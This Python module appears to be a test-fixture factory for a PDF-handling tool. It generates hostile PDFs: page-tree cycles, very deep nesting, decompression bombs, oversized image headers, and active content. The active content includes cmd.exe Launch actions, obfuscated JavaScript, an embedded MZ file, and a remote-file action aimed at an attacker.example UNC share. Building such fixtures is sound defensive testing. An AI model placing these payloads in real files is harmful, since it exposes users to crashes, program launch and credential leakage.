"""Hostile PDF: their bones, what they draw, and what does something in an odd place."""

import functools
import struct
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name
from tests.factories.hostile_files import (
    CATALOG,
    PAGE,
    PAGES,
    a_file,
    an_edit,
    edited,
    jpeg2000,
    jpeg_of_acres,
    jpeg_of_many_scans,
    packed_zeros,
    page,
    stream,
    written,
)

# PDF: its bones


@a_file
def pages_in_a_ring():
    return written({1: CATALOG, 2: b"<< /Type /Pages /Kids [3 0 R] /Count 5 >>",
                    3: b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 5 >>"})  # fmt: skip


@a_file
def pages_that_are_their_own_parents():
    return written({1: CATALOG, 2: PAGES, 3: b"<< /Type /Page /Parent 3 0 R /Contents 4 0 R >>", 4: stream(b"")})


@a_file
def pages_very_deep(depth=20_000):
    objects = {1: CATALOG}
    for number in range(2, depth):
        objects[number] = b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % (number + 1)
    objects[depth] = b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 612 792] >>" % (depth - 1)
    return written(objects)


@a_file
def pages_beyond_number():
    return written(
        {1: CATALOG, 2: b"<< /Type /Pages /Kids [3 0 R] /Count 2147483647 >>", 3: PAGE % b"", 4: stream(b"")}
    )


@a_file
def one_page_a_million_times():
    kids = b"3 0 R " * 1_000_000
    return written(
        {1: CATALOG, 2: b"<< /Type /Pages /Kids [%s] /Count 1000000 >>" % kids, 3: PAGE % b"", 4: stream(b"")}
    )


@a_file
def size_beyond_number():
    return written({1: CATALOG, 2: PAGES, 3: PAGE % b"", 4: stream(b"")}, size=2_147_483_647)


@a_file
def xref_stream_beyond_number():
    body = written({1: CATALOG, 2: PAGES, 3: PAGE % b"", 4: stream(b"")})
    body = body[: body.index(b"xref\n0")]
    keys = b"/Type /XRef /Size 2147483647 /Index [0 2147483647] /W [1 8 8] /Root 1 0 R /Filter /FlateDecode"
    packed = zlib.compress(bytes(17 * 4_000_000), 9)
    return body + b"5 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (stream(packed, keys), len(body))


@a_file
def xref_in_a_ring():
    body = written({1: CATALOG, 2: PAGES, 3: PAGE % b"", 4: stream(b"")})
    at = body.rindex(b"xref\n0")
    return body.replace(b"trailer\n<<", b"trailer\n<< /Prev %d " % at)


@a_file
def object_that_is_itself():
    return written({1: CATALOG, 2: PAGES, 3: PAGE % b"/Font 5 0 R", 4: stream(b""), 5: b"5 0 R"})


@a_file
def stream_as_long_as_itself():
    return written({1: CATALOG, 2: PAGES, 3: PAGE % b"", 4: b"<< /Length 4 0 R >>\nstream\nBT ET\nendstream"})


@a_file
def object_streams_in_each_other():
    inner = b"6 0 " + stream(b"7 0 << /A 1 >>", b"/Type /ObjStm /N 1 /First 4")
    outer = stream(inner, b"/Type /ObjStm /N 1 /First 4 /Extends 5 0 R")
    objects = {1: CATALOG, 2: PAGES, 3: PAGE % b"/X 6 0 R /Y 7 0 R", 4: stream(b""), 5: outer}
    body = written(objects)
    places = {n: body.index(b"\n%d 0 obj" % n) + 1 for n in objects}
    body = body[: body.index(b"xref\n0")]
    rows = [(0, 0, 0), *((1, places[n], 0) for n in range(1, 6)), (2, 5, 0), (2, 6, 0), (1, len(body), 0)]
    packed = b"".join(struct.pack(">BIH", *row) for row in rows)
    keys = b"/Type /XRef /Size 9 /W [1 4 2] /Root 1 0 R"
    return body + b"8 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (stream(packed, keys), len(body))


@a_file
def names_very_long():
    return page(resources=b"/%s 1" % (b"A" * 5_000_000))


@a_file
def names_with_nothing_in_them():
    return page(
        resources=b"/A#00B << /C#00 1 >> /Font << /F#00 5 0 R >>",
        o5=b"<< /Type /Font /Subtype /Type1 /BaseFont /A#00 >>",
    )


# PDF: its contents


@a_file
def forms_in_a_ring():
    form = b"/Type /XObject /Subtype /Form /BBox [0 0 612 792] /Resources << /XObject << /F %d 0 R >> >>"
    return page(b"/F Do", b"/XObject << /F 5 0 R >>", o5=stream(b"/F Do", form % 6), o6=stream(b"/F Do", form % 5))


@a_file
def forms_that_multiply(levels=12, times=10):
    """Ten forms of ten forms of ten forms: a page of a million million."""
    form = b"/Type /XObject /Subtype /Form /BBox [0 0 612 792] /Resources << /XObject << /F %d 0 R >> >>"
    more = {f"o{n}": stream(b"/F Do " * times, form % (n + 1)) for n in range(5, 5 + levels)}
    more[f"o{5 + levels}"] = stream(b"0 0 9 9 re f", b"/Type /XObject /Subtype /Form /BBox [0 0 612 792]")
    return page(b"/F Do " * times, b"/XObject << /F 5 0 R >>", **more)


@a_file
def forms_that_multiply_without_resources():
    """As above, where each form has the names of the page."""
    form = b"/Type /XObject /Subtype /Form /BBox [0 0 612 792]"
    more = {f"o{n}": stream(b"/F%d Do " % (n + 1) * 10, form) for n in range(5, 16)}
    return page(b"/F5 Do", b"/XObject << %s >>" % b" ".join(b"/F%d %d 0 R" % (n, n) for n in range(5, 16)), **more)


@a_file
def forms_that_multiply_under_a_string():
    return _other_words(b"(F)Do ")


@a_file
def forms_that_multiply_behind_a_remark():
    return _other_words(b"/F%/X\nDo ")


@a_file
def forms_that_multiply_in_another_spelling():
    return _other_words(b"/#46 Do ")


def _other_words(words, levels=12):
    form = b"/Type /XObject /Subtype /Form /BBox [0 0 612 792] /Resources << /XObject << /F %d 0 R >> >>"
    more = {f"o{n}": stream(words * 10, form % (n + 1)) for n in range(5, 5 + levels)}
    more[f"o{5 + levels}"] = stream(b"0 0 9 9 re f", b"/Type /XObject /Subtype /Form /BBox [0 0 612 792]")
    return page(words * 10, b"/XObject << /F 5 0 R >>", **more)


@a_file
def patterns_that_multiply(levels=10, times=10):
    keys = (b"/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 99 99] /XStep 99 /YStep 99 "
            b"/Resources << /Pattern << /P %d 0 R >> >>")  # fmt: skip
    fill = b"/Pattern cs /P scn 0 0 99 99 re f " * times
    more = {f"o{n}": stream(fill, keys % (n + 1)) for n in range(5, 5 + levels)}
    more[f"o{5 + levels}"] = stream(b"0 0 9 9 re f", keys.replace(b"/Pattern << /P %d 0 R >>", b""))
    return page(fill, b"/Pattern << /P 5 0 R >>", **more)


@a_file
def forms_very_deep(depth=3_000):
    form = b"/Type /XObject /Subtype /Form /BBox [0 0 612 792] /Resources << /XObject << /F %d 0 R >> >>"
    more = {f"o{n}": stream(b"/F Do", form % (n + 1)) for n in range(5, 5 + depth)}
    more[f"o{5 + depth}"] = stream(b"0 0 9 9 re f", b"/Type /XObject /Subtype /Form /BBox [0 0 612 792]")
    return page(b"/F Do", b"/XObject << /F 5 0 R >>", **more)


@a_file
def states_without_end():
    return page(b"q " * 1_000_000 + b"BT ET " + b"[" * 200_000)


@a_file
@functools.cache
def bomb_whose_length_lies():
    packed = zlib.compress(packed_zeros(540 * 10**6), 9)
    objects = {1: CATALOG, 2: PAGES, 3: PAGE % b""}
    objects[4] = stream(packed, b"/Filter [/FlateDecode /FlateDecode]", length=10)
    return written(objects)


@a_file
def bomb_of_other_filters():
    keys = b"/Filter [/FlateDecode /RunLengthDecode /ASCII85Decode]"
    data = zlib.compress(b"\x81z" * 5_000_000 + b"\x80", 9)
    return written({1: CATALOG, 2: PAGES, 3: PAGE % b"", 4: stream(data, keys)})


def picture(data, keys):
    """A PDF with one page that is a picture."""
    keys = b"/Type /XObject /Subtype /Image " + keys
    return page(b"q 612 0 0 792 0 0 cm /Im Do Q", b"/XObject << /Im 5 0 R >>", o5=stream(data, keys))


_GREY = b"/BitsPerComponent 8 /ColorSpace /DeviceGray"


@a_file
def picture_larger_inside():
    return picture(jpeg_of_acres(), b"/Width 16 /Height 16 /Filter /DCTDecode " + _GREY)


@a_file
def picture_larger_inside_a_second_packing():
    keys = b"/Width 16 /Height 16 /Filter [/FlateDecode /DCTDecode] " + _GREY
    return picture(zlib.compress(jpeg_of_acres()), keys)


@a_file
def picture_of_many_scans():
    return picture(jpeg_of_many_scans(), b"/Width 2000 /Height 2000 /Filter /DCTDecode " + _GREY)


@a_file
def fax_of_acres():
    keys = b"/Width 100 /Height 100 /BitsPerComponent 1 /ColorSpace /DeviceGray /Filter /CCITTFaxDecode "
    return picture(b"\0" * 99, keys + b"/DecodeParms << /K -1 /Columns 2147483647 /Rows 2147483647 >>")


@a_file
def jbig2_of_acres():
    head = struct.pack(">IBBBI", 0, 0x30, 0, 1, 19) + struct.pack(">IIIIBH", 4_000_000_000, 4_000_000_000, 0, 0, 0, 0)
    return picture(head, b"/Width 100 /Height 100 /BitsPerComponent 1 /ColorSpace /DeviceGray /Filter /JBIG2Decode")


@a_file
def jpeg2000_of_acres():
    data = bytearray(jpeg2000((64, 64)))
    at = data.index(b"\xff\x51")
    data[at + 6 : at + 14] = struct.pack(">II", 60_000, 60_000)
    data[at + 22 : at + 30] = struct.pack(">II", 60_000, 60_000)
    return picture(bytes(data), b"/Width 64 /Height 64 /Filter /JPXDecode")


@a_file
def inline_picture_of_acres():
    return page(b"q 612 0 0 792 0 0 cm BI /W 99999 /H 99999 /BPC 8 /CS /G ID " + bytes(200) + b" EI Q")


@a_file
def tiles_without_number():
    keys = (b"/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1] /XStep 0.00001 /YStep 0.00001 "
            b"/Resources << >>")  # fmt: skip
    return page(b"/Pattern cs /P scn 0 0 612 792 re f", b"/Pattern << /P 5 0 R >>", o5=stream(b"0 0 1 1 re f", keys))


@a_file
def letters_that_draw_themselves():
    font = (b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [1 0 0 1 0 0] /FirstChar 97 /LastChar 97 "
            b"/Widths [9] /Encoding << /Differences [97 /a] >> /CharProcs << /a 6 0 R >> /Resources << /Font << /F 5 0 R >> >> >>")  # fmt: skip
    text = b"BT /F 9 Tf (" + b"a" * 99 + b") Tj ET"
    return page(text, b"/Font << /F 5 0 R >>", o5=font, o6=stream(b"9 0 d0 " + text))


# PDF: what does something, in odd places


def _launch():
    return Dictionary(S=Name.Launch, F="cmd.exe")


@an_edit
def launch_in_an_annotation(made):
    made.pages[0].Annots = Array([made.make_indirect(Dictionary(
        Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=made.make_indirect(_launch())))])  # fmt: skip


@an_edit
def launch_behind_another(made):
    then = made.make_indirect(Dictionary(S=Name.GoTo, D=Array([made.pages[0].obj, Name.Fit]), Next=Array([_launch()])))
    made.Root.OpenAction = then


@an_edit
def launch_by_a_name(made):
    made.Root.Names = Dictionary(Dests=Dictionary(Names=Array(["a", Dictionary(D=Array([]), A=_launch())])))


@an_edit
def launch_in_the_outline(made):
    made.Root.Outlines = made.make_indirect(Dictionary(First=made.make_indirect(Dictionary(Title="a", A=_launch()))))


@an_edit
def launch_on_a_thread(made):
    made.Root.Threads = Array([Dictionary(I=Dictionary(Title="a"), F=Dictionary(AA=Dictionary(X=_launch())))])


@an_edit
def program_in_an_address(made):
    made.Root.OpenAction = Dictionary(S=Name.URI, URI="JavaScript:alert(1)")


@an_edit
def another_file_opened(made):
    made.Root.OpenAction = Dictionary(
        S=Name.GoToR, F="\\\\\\\\attacker.example\\\\share\\\\x.pdf", D=Array([0, Name.Fit])
    )


@an_edit
def sound(made):
    made.Root.OpenAction = Dictionary(S=Name.Sound, Sound=made.make_stream(b"x", R=8000))


@an_edit
def film_of_old(made):
    made.Root.OpenAction = Dictionary(S=Name.Movie, T="a")


@an_edit
def associated_file(made):
    made.Root.AF = Array(
        [made.make_indirect(Dictionary(Type=Name.Filespec, F="a", EF=Dictionary(F=made.make_stream(b"MZ"))))]
    )


@a_file
def program_under_another_spelling():
    return page(o5=b"<< /#53 /#4AavaScript /#4A#53 (app.alert\\0501\\051) >>").replace(
        b"/Type /Catalog", b"/Type /Catalog /OpenAction 5 0 R"
    )


@a_file
def program_in_an_object_stream():
    def spoil(made):
        made.Root.OpenAction = made.make_indirect(Dictionary(S=Name.JavaScript, JS="app.alert(1)"))

    return edited(spoil, object_stream_mode=pikepdf.ObjectStreamMode.generate)
